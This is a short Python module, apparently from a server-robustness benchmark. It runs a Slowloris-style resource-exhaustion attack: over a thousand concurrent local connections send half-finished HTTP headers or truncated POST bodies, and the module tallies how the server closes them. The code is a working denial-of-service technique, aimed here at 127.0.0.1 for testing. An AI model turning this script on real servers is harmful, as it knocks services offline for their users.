"""Requests that never become whole: heads without an end, bodies that do not come, and as many connections as there are files."""

from __future__ import annotations

import asyncio
from collections import Counter
from contextlib import suppress

from bench.attack.place import Held, Place

HALVES = (
    b"GET / HTTP/1.1\r\nHost: x\r\nX-Half: ",
    b"POST /api/people HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n{",
)


async def attack(place: Place, seconds: float = 14.0, count: int = 1100) -> Held:
    """Open so many at once and leave them half."""
    ends: Counter[str] = Counter()
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await asyncio.gather(*[_half(place, HALVES[number % 2], ends) for number in range(count)])
    return Held(f"{sum(ends.values())} of {count} ended by the server", {"ends": ends})


async def _half(place: Place, text: bytes, ends: Counter[str]) -> None:
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", place.port, local_addr=(place.home, 0))
        writer.write(text)
        said = await reader.readline()
        ends[said.decode().strip() or "nothing"] += 1
        writer.transport.abort()
    except OSError as error:
        ends[type(error).__name__] += 1
